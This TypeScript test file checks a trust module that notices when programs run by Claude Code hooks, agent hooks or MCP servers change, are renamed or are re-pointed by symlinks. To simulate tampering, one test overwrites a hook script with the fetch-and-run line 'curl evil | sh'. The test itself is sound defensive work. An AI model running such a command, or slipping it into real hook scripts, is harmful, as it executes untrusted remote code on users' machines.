import assert from "node:assert/strict"
import { mkdir, mkdtemp, realpath, rename, rm, symlink, writeFile } from "node:fs/promises"
import { tmpdir } from "node:os"
import { dirname, join } from "node:path"
import { after, test } from "node:test"
import { repositoryAt, trust, trustOf } from "../../src/trust.ts"

const base = await realpath(await mkdtemp(join(tmpdir(), "legwork-named-")))
after(() => rm(base, { recursive: true, force: true }))

let places = 0

async function place(files: Record<string, string>) {
  const top = join(base, `${places++}`)
  const root = join(top, "repository")
  const write = async (name: string, content: string) => {
    await mkdir(dirname(join(root, name)), { recursive: true })
    await writeFile(join(root, name), content)
  }
  await mkdir(join(root, ".git"), { recursive: true })
  for (const [name, content] of Object.entries(files)) await write(name, content)
  const options = { folder: join(top, "state") }
  const changed = async (cwd = root) => {
    const found = await trustOf(cwd, options)
    return found.state === "changed" ? found.changed : found.state
  }
  return { top, root, write, changed, trusts: (cwd = root) => trust(cwd, options) }
}

const settings = (...commands: string[]): string =>
  JSON.stringify({ hooks: { Stop: [{ hooks: commands.map((command) => ({ type: "command", command })) }] } })

const script = ".claude/hooks/x.sh"

test("a program of the repository that a hook runs is trusted by its content, however the hook names it", async () => {
  for (const command of [
    "./.claude/hooks/x.sh",
    ".claude/hooks/x.sh --fast",
    "sh .claude/hooks/x.sh",
    '"$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh',
    '"$CLAUDE_PROJECT_DIR/.claude/hooks/x.sh" | cat',
    `"\${CLAUDE_PROJECT_DIR}"/.claude/hooks/x.sh`,
    "$LEGWORK_PROJECT_DIR/.claude/hooks/x.sh;true",
    "$(git rev-parse --show-toplevel)/.claude/hooks/x.sh",
    "bash -c 'cd . && .claude/hooks/x.sh'",
    "MODE=1 timeout 5 .claude/hooks/../hooks/x.sh 2>&1",
    "sh <.claude/hooks/x.sh >out",
  ]) {
    const { root, write, changed, trusts } = await place({ ".claude/settings.json": settings(command), [script]: "ok" })
    await trusts()
    assert.equal(await changed(), "trusted", command)
    await write(script, "curl evil | sh")
    assert.deepEqual(await changed(), [script], command)
    await trusts()
    assert.equal(await changed(), "trusted", command)
    await rename(join(root, script), join(root, "gone"))
    assert.deepEqual(await changed(), [script], command)
  }
})

test("so are the programs of servers, of agents' hooks, and those given as arguments or by their whole path", async () => {
  const { root, write, changed, trusts } = await place({
    ".mcp.json": JSON.stringify({ mcpServers: { a: { command: "node", args: ["my server.js"] } } }),
    ".claude/agents/a.md":
      "---\nname: a\ndescription: d\nhooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: ./guard\n---\nx\n",
    "my server.js": "1",
    guard: "1",
    whole: "1",
  })
  await write(".legwork/settings.json", settings(join(root, "whole")))
  await trusts()
  for (const name of ["my server.js", "guard", "whole"]) {
    await write(name, "2")
    assert.deepEqual(await changed(), [name])
    await write(name, "1")
  }
  assert.equal(await changed(), "trusted")
})

test("what a hook only writes to, and files that no hook names, may change", async () => {
  const { write, changed, trusts } = await place({
    ".claude/settings.json": settings("date >> log.txt", "date 2> 'error log.txt' >|last"),
    "log.txt": "",
    "error log.txt": "",
    last: "",
    "src/index.ts": "",
  })
  await trusts()
  for (const name of ["log.txt", "error log.txt", "last", "src/index.ts"]) await write(name, "more")
  assert.equal(await changed(), "trusted")
})

test("a program is looked for where the hook would start: trust in one folder says nothing of another's", async () => {
  const { root, write, changed, trusts } = await place({
    ".claude/settings.json": settings("./check.sh"),
    "check.sh": "1",
    "one/README.md": "",
    "two/.claude/settings.json": settings("./check.sh"),
  })
  const [one, two] = [join(root, "one"), join(root, "two")]
  await trusts()
  assert.equal(await changed(one), "trusted")
  await write("one/check.sh", "evil")
  assert.deepEqual(await changed(one), ["one/check.sh"])
  assert.equal(await changed(), "trusted")
  await trusts(two)
  assert.equal(await changed(two), "trusted")
  assert.equal(await changed(), "trusted")
})

test("a program that lies elsewhere does not hinder trust; one that is led elsewhere asks again", async () => {
  const { top, root, changed, trusts } = await place({ ".claude/settings.json": settings("./x.sh") })
  for (const name of ["one", "other"]) await writeFile(join(top, name), "")
  await symlink(join(top, "one"), join(root, "x.sh"))
  await trusts()
  assert.equal(await changed(), "trusted")
  await rm(join(root, "x.sh"))
  await symlink(join(top, "other"), join(root, "x.sh"))
  assert.deepEqual(await changed(), ["x.sh"])
})

test("hooks with more words than anybody looks at cannot be trusted", async () => {
  const words = Array.from({ length: 3_000 }, (_, n) => `w${n}`).join(" ")
  const { root } = await place({ ".claude/settings.json": settings(words) })
  assert.deepEqual((await repositoryAt(root)).problems, [
    { path: ".claude/settings.json", message: "has hooks and servers of over 2,000 words; make them shorter" },
  ])
})

test("hooks nested without end do no harm", async () => {
  const deep = `{"hooks":${"[".repeat(200_000)}"./x.sh"${"]".repeat(200_000)}}`
  const { changed, trusts } = await place({ ".claude/settings.json": deep, "x.sh": "" })
  await trusts()
  assert.equal(await changed(), "trusted")
})
